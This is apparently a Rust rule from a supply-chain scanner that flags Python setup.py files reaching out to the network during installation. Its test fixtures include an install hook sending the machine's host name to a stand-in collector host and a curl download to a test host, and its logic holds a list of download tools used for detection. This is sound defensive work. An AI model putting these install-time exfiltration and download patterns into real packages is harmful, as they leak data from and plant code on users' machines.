//! source-setup-code: what a Python package does while it is being installed reaches outside.

use std::sync::LazyLock;

use super::source_calls::source_files;
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::sinks::{evaluates, runs_shell, sends, text_of};
use capdex_evidence::code::{Argument, Call, TaintSources};
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceSetupCode;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-setup-code"
version = 1
title = "The installation reaches outside"
why = "setup.py runs with the user's rights before anybody has looked at the package. A request or a download there decides what is installed, or tells somebody that it was."
fix = "Declare the package in pyproject.toml; ship what the build needs."
cannot_see = "Build backends of other names; modules that setup.py imports; native code."
severity = "high"
confidence = "high"
kinds = ["skill", "mcp_server", "plugin", "package"]
lifecycle = "stable"
cites = ["owasp-mcp:MCP04", "SAFE-T1002", "CWE-506"]
[codes]
agentscore = ["install_script"]
[[examples.fires]]
note = "A request from the install command."
[examples.fires.files]
"setup.py" = '''
from setuptools import setup
from setuptools.command.install import install
import platform, requests
class Install(install):
    def run(self):
        install.run(self)
        requests.get("https://collector.test/?h=" + platform.node())
setup(name="a", cmdclass={"install": Install})
'''
[[examples.fires]]
note = "A shell that downloads."
[examples.fires.files]
"setup.py" = '''
import os
from setuptools import setup
os.system("curl -o /tmp/a https://files.test/a")
setup(name="a")
'''
[[examples.silent]]
note = "The version from the repository, the text from a file."
[examples.silent.files]
"setup.py" = '''
import re, subprocess
from setuptools import setup
version = subprocess.check_output(["git", "describe", "--tags"]).decode()
about = {}
with open("a/version.py") as f:
    exec(f.read(), about)
setup(name="a", version=about["v"], long_description=open("README.md").read())
'''
[[examples.silent]]
note = "A request in the package, not in its installation."
[examples.silent.files]
"setup.py" = "from setuptools import setup\nsetup(name='a')\n"
"a/b.py" = "import requests\nrequests.get('https://api.test')\n"
"##;

impl Rule for SourceSetupCode {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        for file in source_files(subject).filter(|file| is_setup(file.path)) {
            for call in &file.view.calls {
                if let Some((severity, confidence)) = judgement(call) {
                    facts.found_as(severity, confidence, call.place.clone(), &call.text);
                }
            }
        }
    }
}

/// `setup.py` at the root, or one folder down as in an archive of the source.
fn is_setup(path: &str) -> bool {
    path == "setup.py" || (path.ends_with("/setup.py") && path.matches('/').count() == 1)
}

/// Fetching prebuilt parts is a habit of honest packages too; telling somebody who installed it is not.
fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
    let told = TaintSources::HOST_NAME
        | TaintSources::USER_NAME
        | TaintSources::HOST_NETWORK
        | TaintSources::ENVIRONMENT
        | TaintSources::SECRET;
    let asks = sends(call) || call.callee.starts_with("connection.");
    if asks {
        let tells = call.flows.arguments().any(told);
        return Some(if tells { (Severity::High, Confidence::High) } else { (Severity::Medium, Confidence::Medium) });
    }
    if runs_shell(call) || call.callee.starts_with("subprocess.") {
        let text = call.arguments.first().and_then(text_of).unwrap_or_default();
        let fetches = ["curl ", "wget ", "powershell", "Invoke-WebRequest", "bitsadmin", "certutil", "mshta"]
            .iter()
            .any(|program| text.contains(program));
        return fetches.then_some((Severity::High, Confidence::High));
    }
    let opaque = evaluates(call) && matches!(call.arguments.first(), Some(Argument::Composed(_)));
    opaque.then_some((Severity::Medium, Confidence::Low))
}
